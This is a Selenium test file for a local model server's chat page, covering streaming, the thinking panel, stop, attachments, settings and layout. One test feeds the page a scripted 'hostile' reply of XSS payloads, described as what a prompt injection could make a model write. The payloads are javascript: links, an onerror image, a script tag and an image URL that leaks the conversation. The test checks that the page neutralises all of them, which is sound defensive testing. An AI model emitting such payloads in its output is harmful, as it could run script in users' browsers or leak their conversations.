"""The chat page in headless Chromium (Debian's chromium + chromedriver through Selenium; no browser download).

The server runs a scripted generation (a stand-in for the model) so the page's rendering is what is
checked: streamed markdown with a highlighted code block, the thinking collapsible, stop, an image.
"""

from __future__ import annotations

import json
import os
import shutil
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from test_server import RunningServer, scripted

from mlx_qwen35.surfaces.server.routes import ServerSettings
from mlx_qwen35.surfaces.server.worker import GenerationWorker

# Debian's chromium here; GitHub's runners ship Google Chrome with a matching chromedriver instead.
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
CHROMEDRIVER = shutil.which("chromedriver")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None or CHROMEDRIVER is None, reason="needs chromium (or Chrome) and its chromedriver"
)

REPLY = "Weighing it up.\n</think>\n\nHere is **code**:\n\n```python\nprint('hi')\n```\n" + "More text. " * 150
# What a prompt injection could make a model write: script in links and raw HTML, images that leak data.
HOSTILE = (
    "done\n</think>\n\n[click me](javascript:window.pwned='link') and [docs](https://example.com/docs) "
    "and <img src=x onerror=\"window.pwned='img'\"> and <script>window.pwned='script'</script> "
    "<a href=\"javascript:window.pwned='raw'\">raw link</a>\n\n"
    "![secret](http://127.0.0.1:{leak_port}/leak.png?q=the-conversation) [mail](mailto:a@example.com)"
)


class FakeProcessor:
    """Enough of a processor for the worker: templates to a fixed prompt, accepts images, counts requests."""

    def __init__(self):
        self.requests = 0

    def apply_chat_template(self, messages, **kwargs):
        self.requests += 1
        self.last_messages = messages
        return "prompt"

    def encode(self, text):
        return [1, 2, 3]

    def __call__(self, messages, **kwargs):
        self.requests += 1
        self.last_messages = messages
        return [1, 2, 3, 4]  # stands in for ModelInputs: the scripted generation only counts it


class LeakServer:
    """An HTTP server on another port that records every request (a remote image must never reach it)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


@pytest.fixture(scope="module")
def leak():
    server = LeakServer()
    yield server
    server.close()


# Slow thinking, so the live indicator can be watched; a reply cut at the token limit; a table and maths.
SLOW_THOUGHT = "Step one of the plan. Step two of the plan. Step three of the plan.\n</think>\n\nDone."
CUT_REPLY = "ok\n</think>\n\nThis answer runs on and on and"
RICH_REPLY = (
    "ok\n</think>\n\n| planet | moons |\n| --- | --- |\n| Mars | 2 |\n\n"
    "Euler: $e^{i\\pi} + 1 = 0$ and $$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$ costs $5 and $10."
)


def page(leak: LeakServer, **settings) -> RunningServer:
    """A server whose scripted model answers by a keyword in the prompt (see ``replies``), else with REPLY."""
    processor = FakeProcessor()
    replies = {
        "hostile": scripted(HOSTILE.format(leak_port=leak.port), delay=0.005),
        "slowly": scripted(SLOW_THOUGHT, delay=0.04),
        "cut": scripted(CUT_REPLY, delay=0.005, finish="length"),
        "rich": scripted(RICH_REPLY, delay=0.002),
        "snippet": scripted(REPLY[: REPLY.index("More text.")], delay=0.002),
        "analogy": scripted("ok\n</think>\n\nA process is a house; threads are the people in it.", delay=0.002),
    }
    reply = scripted(REPLY, delay=0.01)

    def generate(model, processor, prompt, **options):
        running.settings.append(options["settings"])
        content = processor.last_messages[-1]["content"]
        words = content if isinstance(content, str) else ""
        chosen = next((script for word, script in replies.items() if word in words), reply)
        return chosen(model, processor, prompt)

    worker = GenerationWorker(lambda: (None, processor), generate=generate)
    running = RunningServer(worker, ServerSettings(model_id="scripted", **settings))
    running.processor = processor
    running.settings = []  # the GenerationSettings of each request, in order
    return running


@pytest.fixture(scope="module")
def page_server(leak):
    running = page(leak)
    yield running
    running.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--window-size=1280,800",
        f"--user-data-dir={tmp_path_factory.mktemp('chromium-profile')}",
    ):
        options.add_argument(flag)
    downloads = tmp_path_factory.mktemp("downloads")
    options.add_experimental_option("prefs", {"download.default_directory": str(downloads)})
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})  # CSP violations are logged there
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    driver.downloads = downloads
    yield driver
    driver.quit()


def wait_for(condition, timeout: float = 15.0):
    deadline = time.time() + timeout
    while not (value := condition()):
        assert time.time() < deadline, "timed out waiting for the page"
        time.sleep(0.05)
    return value


# Read through JavaScript: the page re-renders while streaming, which makes element handles stale.
def find(browser, css):
    return browser.execute_script(f"return document.querySelectorAll({css!r}).length")


def text(browser, css):
    return browser.execute_script(f"const e = document.querySelector({css!r}); return e ? e.textContent : ''")


def stored_roles(browser) -> list[str]:
    """The roles of the messages of the current (newest) conversation in localStorage."""
    stored = browser.execute_script("return localStorage.getItem('mlx-qwen35.conversations')")
    return [m["role"] for m in json.loads(stored)[0]["messages"]]


def policy_violations(browser) -> list[str]:
    return [e["message"] for e in browser.get_log("browser") if "Content Security Policy" in e["message"]]


def test_chat_page_streams_stops_and_attaches(page_server, browser, tmp_path):
    from PIL import Image
    from selenium.webdriver.common.by import By

    browser.get(page_server.url)

    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")

    # Send a message and watch the answer stream in, then stop it mid-way.
    browser.find_element(By.ID, "prompt").send_keys("Show me code")
    browser.find_element(By.ID, "send").click()
    wait_for(lambda: find(browser, ".message.assistant pre code.hljs"))
    assert text(browser, "details.thinking div") == "Weighing it up."
    assert text(browser, ".message.assistant strong") == "code"
    browser.find_element(By.ID, "stop").click()
    wait_for(lambda: "stopped" in text(browser, ".message.assistant .meta"))
    answer = text(browser, ".message.assistant .answer")
    assert answer.startswith("Here is code") and answer.count("More text.") < 150, "stop did not stop the stream"
    wait_for(lambda: not page_server.worker.busy, timeout=3)

    # Attach an image through the file input: a thumbnail, then an image part sent to the processor.
    image = tmp_path / "blue.png"
    Image.new("RGB", (40, 30), "blue").save(image)
    browser.find_element(By.ID, "file").send_keys(str(image))
    wait_for(lambda: find(browser, "#attachments img"))
    browser.find_element(By.ID, "prompt").send_keys("What is this?")
    browser.find_element(By.ID, "send").click()
    wait_for(lambda: find(browser, ".message.user img") == 1)
    wait_for(lambda: "tok/s" in text(browser, "#stats"), timeout=30)
    user_turn = page_server.processor.last_messages[-1]
    assert user_turn["content"][0]["type"] == "image" and user_turn["content"][0]["image"].size == (40, 30)

    # The conversation survives a reload (localStorage).
    browser.refresh()
    wait_for(lambda: find(browser, ".message.user") == 2)

    shot = tmp_path / "chat-page.png"
    browser.save_screenshot(str(shot))
    print(f"screenshot: {shot}")
    assert policy_violations(browser) == []  # the page works within its Content-Security-Policy


def test_model_output_cannot_run_script_or_load_remote_images(page_server, leak, browser, tmp_path):
    from selenium.webdriver.common.by import By

    browser.get(page_server.url)
    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")
    browser.find_element(By.ID, "new-chat").click()
    browser.find_element(By.ID, "prompt").send_keys("Say something hostile")
    browser.find_element(By.ID, "send").click()
    wait_for(lambda: "context" in text(browser, ".message.assistant .meta"))  # the reply is complete
    answer = ".message.assistant .answer"
    assert find(browser, f"{answer} img") == 0 and find(browser, f"{answer} script") == 0
    assert find(browser, f"{answer} [onerror]") == 0
    links = browser.execute_script(
        f"return [...document.querySelectorAll('{answer} a')].map(a => [a.textContent, a.getAttribute('href'),"
        " a.target, a.rel])"
    )
    image_url = f"http://127.0.0.1:{leak.port}/leak.png?q=the-conversation"
    assert links == [
        ["click me", None, "", ""],  # the javascript: URL is gone: an inert anchor
        ["docs", "https://example.com/docs", "_blank", "noopener noreferrer"],
        ["image: secret", image_url, "_blank", "noopener noreferrer"],  # a link to click, never loaded
        ["mail", "mailto:a@example.com", "_blank", "noopener noreferrer"],
    ]
    assert "<img src=x" in text(browser, answer) and "raw link</a>" in text(browser, answer)  # raw HTML as text
    browser.execute_script(f"document.querySelector('{answer} a').click()")
    assert browser.execute_script("return window.pwned === undefined")
    assert leak.hits == [] and policy_violations(browser) == []
    browser.save_screenshot(str(tmp_path / "hostile-reply.png"))
    print(f"screenshot: {tmp_path / 'hostile-reply.png'}")


def test_enter_while_a_reply_streams_does_not_send_again_and_stop_stops_it(page_server, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    browser.get(page_server.url)
    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")
    browser.find_element(By.ID, "new-chat").click()
    before = page_server.processor.requests
    browser.find_element(By.ID, "prompt").send_keys("first" + Keys.ENTER)
    wait_for(lambda: "More text." in text(browser, ".message.assistant .answer"))
    browser.find_element(By.ID, "prompt").send_keys("second" + Keys.ENTER)
    browser.find_element(By.ID, "prompt").send_keys(Keys.ENTER)
    assert browser.find_element(By.ID, "prompt").get_attribute("value") == "second"  # kept for later
    assert page_server.processor.requests == before + 1
    browser.find_element(By.ID, "stop").click()
    wait_for(lambda: "stopped" in text(browser, ".message.assistant .meta"))
    wait_for(lambda: not page_server.worker.busy, timeout=3)  # Stop reached the one live request
    assert stored_roles(browser) == ["user", "assistant"]
    assert find(browser, ".message.assistant") == 1 and "More text." in text(browser, ".message.assistant .answer")

    browser.find_element(By.ID, "prompt").send_keys(Keys.ENTER)  # now it sends
    wait_for(lambda: page_server.processor.requests == before + 2)
    browser.find_element(By.ID, "stop").click()
    wait_for(lambda: stored_roles(browser) == ["user", "assistant", "user", "assistant"])


def test_with_an_api_key_the_browser_signs_in_and_the_page_works(leak, browser):
    from selenium.webdriver.common.by import By

    running = page(leak, api_key="sesame")
    try:
        # Without the key the browser shows its sign-in prompt (test_server checks the 401 and its challenge);
        # credentials in the URL are what signing in there does: the key as the password, any user name.
        browser.get(running.url.replace("http://", "http://me:sesame@"))
        wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")  # /health with the key
        browser.find_element(By.ID, "prompt").send_keys("Hello")
        browser.find_element(By.ID, "send").click()
        wait_for(lambda: "More text." in text(browser, ".message.assistant .answer"))
        browser.find_element(By.ID, "stop").click()
        wait_for(lambda: not running.worker.busy, timeout=3)
        assert browser.execute_script("return localStorage.getItem('mlx-qwen35.api-key')") is None
    finally:
        running.close()


@pytest.fixture(scope="module")
def screenshots(tmp_path_factory):
    """Where the page's screenshots go (MLX_QWEN35_ARTEFACTS, else pytest's temporary directory): look at them."""
    root = os.environ.get("MLX_QWEN35_ARTEFACTS")
    directory = Path(root) / "page" if root else tmp_path_factory.mktemp("screenshots")
    directory.mkdir(parents=True, exist_ok=True)
    print(f"screenshots: {directory}")
    return directory


def open_fresh(browser, url: str, width: int = 1280, height: int = 800) -> None:
    """The page at ``url`` with no stored conversations, in a window ``width`` wide."""
    from selenium.webdriver.common.by import By

    browser.set_window_size(width, height)
    browser.get(url)
    browser.execute_script("localStorage.clear()")
    browser.refresh()
    wait_for(lambda: browser.find_element(By.ID, "model-name").text == "scripted")


def click(browser, css: str) -> None:
    """Click the last element matching ``css`` through JavaScript (the page re-renders while streaming)."""
    assert browser.execute_script(
        f"const all = document.querySelectorAll({css!r}); if (!all.length) return false; all[all.length - 1].click(); return true"
    ), f"nothing matches {css}"


def send(browser, prompt: str) -> None:
    from selenium.webdriver.common.by import By

    browser.find_element(By.ID, "prompt").send_keys(prompt)
    browser.find_element(By.ID, "send").click()


def done(browser) -> bool:
    return "context" in text(browser, ".message.assistant:last-of-type .meta") and not browser.execute_script(
        "return document.getElementById('send').disabled"
    )


def test_empty_state_thinking_indicator_and_disabled_send(page_server, browser, screenshots):
    open_fresh(browser, page_server.url)
    # Empty: the model's name at the top and in the middle, example prompts that send themselves.
    assert text(browser, "#empty-model") == "scripted" and find(browser, "#examples button") == 4
    assert browser.execute_script("return document.querySelector('link[rel=icon]').href").endswith("/favicon.svg")
    assert httpx.get(f"{page_server.url}/favicon.svg").status_code == 200
    browser.save_screenshot(str(screenshots / "empty-1280.png"))
    click(browser, "#examples button:first-child")
    wait_for(lambda: done(browser))
    assert stored_roles(browser) == ["user", "assistant"] and not browser.execute_script(
        "return document.getElementById('empty').offsetParent"
    )

    # While it thinks: a live indicator with the time and the tokens so far, expandable as it streams.
    send(browser, "Think slowly")
    summary = ".message.assistant:last-of-type details.thinking.live summary"
    wait_for(lambda: " 2 tokens" not in text(browser, summary) and "tokens" in text(browser, summary))
    live = text(browser, summary)
    assert live.startswith("Thinking · ") and " s · " in live, live
    send_button = (
        "return [document.getElementById('send').disabled, getComputedStyle(document.getElementById('send')).cursor]"
    )
    assert browser.execute_script(send_button) == [True, "not-allowed"]  # visibly disabled while streaming
    click(browser, summary)
    wait_for(lambda: "Step two" in text(browser, ".message.assistant:last-of-type details.thinking[open] div"))
    browser.save_screenshot(str(screenshots / "thinking-1280.png"))
    wait_for(lambda: done(browser))
    final = text(browser, ".message.assistant:last-of-type details.thinking summary")
    assert final.startswith("Thought for ") and final.endswith(" tokens"), final
    assert text(browser, ".message.assistant:last-of-type .answer").strip() == "Done."
    assert browser.execute_script(send_button)[0] is False
    assert policy_violations(browser) == []


def test_settings_are_kept_with_each_conversation(page_server, browser):
    from selenium.webdriver.common.by import By

    open_fresh(browser, page_server.url)
    click(browser, "#toggle-settings")
    browser.find_element(By.ID, "system-prompt").send_keys("Be terse.")
    browser.find_element(By.ID, "temperature").send_keys("0.3")
    browser.find_element(By.ID, "max-tokens").send_keys("50")
    click(browser, "#thinking")  # off
    send(browser, "First chat, a snippet")
    wait_for(lambda: done(browser))
    sent = page_server.processor.last_messages
    assert sent[0] == {"role": "system", "content": "Be terse."} and sent[-1]["content"] == "First chat, a snippet"
    settings = page_server.settings[-1]
    assert (settings.sampling.temp, settings.max_tokens, settings.enable_thinking) == (0.3, 50, False)

    click(browser, "#new-chat")
    system = browser.find_element(By.ID, "system-prompt")
    system.clear()
    system.send_keys("Be thorough.")
    browser.find_element(By.ID, "temperature").clear()  # a new chat starts from the last one's settings
    click(browser, "#thinking")  # on again
    send(browser, "Second chat, a snippet")
    wait_for(lambda: done(browser))
    assert page_server.processor.last_messages[0]["content"] == "Be thorough."
    assert page_server.settings[-1].enable_thinking is True

    browser.refresh()
    click(browser, "#conversations li:last-child .title")  # the first chat (newest first)
    values = "return ['system-prompt', 'temperature', 'max-tokens'].map(id => document.getElementById(id).value).concat(document.getElementById('thinking').checked)"
    assert browser.execute_script(values) == ["Be terse.", "0.3", "50", False]
    click(browser, "#conversations li:first-child .title")
    assert browser.execute_script(values) == ["Be thorough.", "", "50", True]


def test_regenerate_edit_copy_and_the_cut_off_notice(page_server, browser):
    from selenium.webdriver.common.by import By

    open_fresh(browser, page_server.url)
    send(browser, "A snippet please")
    wait_for(lambda: done(browser))
    before = page_server.processor.requests
    click(browser, ".message.assistant .regenerate")
    wait_for(lambda: page_server.processor.requests == before + 1 and done(browser))
    assert stored_roles(browser) == ["user", "assistant"] and find(browser, ".message.assistant") == 1

    click(browser, ".message.assistant pre .copy-code")
    assert text(browser, ".message.assistant pre .copy-code") == "Copied"
    click(browser, ".message.assistant .bar .copy")
    assert text(browser, ".message.assistant .bar .copy") == "Copied"

    click(browser, ".message.user .edit")
    area = browser.find_element(By.CSS_SELECTOR, ".message.user.editor textarea")
    area.clear()
    area.send_keys("Now cut it short")
    click(browser, ".message.user.editor .resend")
    wait_for(lambda: done(browser))
    stored = json.loads(browser.execute_script("return localStorage.getItem('mlx-qwen35.conversations')"))[0]
    assert [(m["role"], m["content"]) for m in stored["messages"]][0] == ("user", "Now cut it short")
    assert len(stored["messages"]) == 2 and stored["messages"][1]["finish"] == "length"
    assert text(browser, ".message.assistant .notice").startswith("Cut off: the reply reached the token limit")

    send(browser, "Show me code again")
    wait_for(lambda: "More text." in text(browser, ".message.assistant:last-of-type .answer"))
    click(browser, "#stop")
    wait_for(
        lambda: text(browser, ".message.assistant:last-of-type .notice") == "Stopped before the reply was finished."
    )


def test_tables_links_and_maths_render(page_server, browser):
    open_fresh(browser, page_server.url)
    send(browser, "Something rich")
    wait_for(lambda: done(browser))
    answer = ".message.assistant .answer"
    assert (
        browser.execute_script(f"return getComputedStyle(document.querySelector('{answer} td')).borderTopStyle")
        == "solid"
    )
    assert find(browser, f"{answer} math") == 2 and find(browser, f"{answer} math[display=block]") == 1
    assert find(browser, f"{answer} math mfrac") == 1 and "$5 and $10" in text(browser, answer)
    assert "annotation" not in browser.execute_script(f"return document.querySelector('{answer}').innerHTML")
    assert policy_violations(browser) == []


def test_rename_export_and_delete_a_conversation(page_server, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    open_fresh(browser, page_server.url)
    send(browser, "A snippet please")
    wait_for(lambda: done(browser))
    click(browser, "#conversations li .rename")
    field = browser.switch_to.active_element
    field.send_keys(Keys.CONTROL, "a")
    field.send_keys("Code talk" + Keys.ENTER)
    assert text(browser, "#conversations li .title") == "Code talk"
    click(browser, "#conversations li .export")
    exported = wait_for(lambda: [p for p in browser.downloads.glob("Code talk*.json")])
    wait_for(lambda: json.loads(exported[0].read_text() or "null"))
    assert json.loads(exported[0].read_text())["title"] == "Code talk"
    browser.find_element(By.CSS_SELECTOR, "#conversations li .delete").click()  # natively: confirm() blocks script
    browser.switch_to.alert.accept()
    wait_for(lambda: find(browser, "#conversations li") == 0)
    assert browser.execute_script("return localStorage.getItem('mlx-qwen35.conversations')") == "[]"
    assert not browser.execute_script("return document.getElementById('empty').hidden")


def test_the_page_fits_a_phone_with_a_sliding_sidebar(page_server, browser, screenshots):
    open_fresh(browser, page_server.url, width=390, height=844)
    browser.save_screenshot(str(screenshots / "empty-390.png"))
    send(browser, "Something rich")
    wait_for(lambda: done(browser))
    width = browser.execute_script("return document.documentElement.clientWidth")
    assert browser.execute_script("return document.documentElement.scrollWidth") == width  # no sideways scroll
    sidebar = "return document.getElementById('sidebar').getBoundingClientRect().right"
    assert browser.execute_script(sidebar) <= 0  # off-screen until asked for
    browser.save_screenshot(str(screenshots / "chat-390.png"))
    click(browser, "#toggle-sidebar")
    wait_for(
        lambda: browser.execute_script("return document.getElementById('sidebar').getBoundingClientRect().left") == 0
    )
    browser.save_screenshot(str(screenshots / "sidebar-390.png"))
    click(browser, "#scrim")
    wait_for(lambda: browser.execute_script(sidebar) <= 0)
    browser.set_window_size(1280, 800)
    click(browser, "#toggle-sidebar")  # wide: the sidebar folds away and comes back
    assert browser.execute_script("return document.getElementById('sidebar').offsetWidth") == 0
    click(browser, "#toggle-sidebar")
    assert browser.execute_script("return document.getElementById('sidebar').offsetWidth") == 240
    browser.save_screenshot(str(screenshots / "chat-1280.png"))
